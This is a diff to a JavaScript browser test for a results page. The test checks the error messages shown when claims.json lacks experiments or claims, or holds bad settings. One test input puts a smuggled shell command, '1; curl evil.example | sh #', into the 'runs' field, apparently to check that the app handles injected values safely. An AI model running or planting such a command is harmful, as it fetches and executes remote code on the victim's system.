@@ -65,7 +65,7 @@ describe("results of one's own", () => {
   });
 
   test("that cannot be shown are told of, with what to do; mended, they are shown", async () => {
-    const { experiments, ...older } = own;
+    const { experiments, ...claimsAlone } = own;
     write("<!doctype html>");
     await look(async (page) => {
       const alert = page.getByRole("alert");
@@ -74,7 +74,7 @@ describe("results of one's own", () => {
       expect(await page.getByRole("heading", { level: 1 }).textContent()).toContain("claims");
       const again = () => page.getByRole("button", { name: "Try again" }).click();
       for (const [text, message] of [
-        [JSON.stringify(older), "These results are of an older version"],
+        [JSON.stringify(claimsAlone), "claims.json does not hold experiments."],
         ["{}", "claims.json does not hold claims."],
         [
           JSON.stringify({ ...own, settings: { ...own.settings, runs: "1; curl evil.example | sh #" } }),
